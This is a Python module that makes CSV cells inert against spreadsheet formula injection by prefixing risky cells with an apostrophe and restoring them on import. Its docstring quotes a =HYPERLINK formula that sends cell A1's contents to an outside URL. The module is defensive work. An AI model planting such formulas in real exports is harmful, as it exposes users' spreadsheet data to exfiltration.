"""Cells of the CSV files trygghet writes, made inert for spreadsheets.

A title such as `=HYPERLINK("http://…?x="&A1,"Klicka")` would run as a formula when the
CSV is opened in Excel or LibreOffice. OWASP's advice: a cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return gets a leading `'`, which the spreadsheet shows as
text. Plain numbers (`-3`, `+4,5`) cannot be formulas and stay as they are; fullwidth
forms (`＝`) count as what they fold to. `trygghet import` removes the `'` again.
"""

from __future__ import annotations

import re
import unicodedata

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def inert(cell: object) -> object:
    """The cell as written to a CSV file: text a spreadsheet would run gets a leading `'`."""
    if not isinstance(cell, str) or not cell:
        return cell
    first = unicodedata.normalize("NFKC", cell[0])[:1]
    if first in TRIGGERS and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


def restored(cell: str) -> str:
    """A cell read back from a CSV file trygghet wrote: the `'` that inert() added removed."""
    if cell[:1] == "'" and unicodedata.normalize("NFKC", cell[1:2])[:1] in TRIGGERS:
        return cell[1:]
    return cell
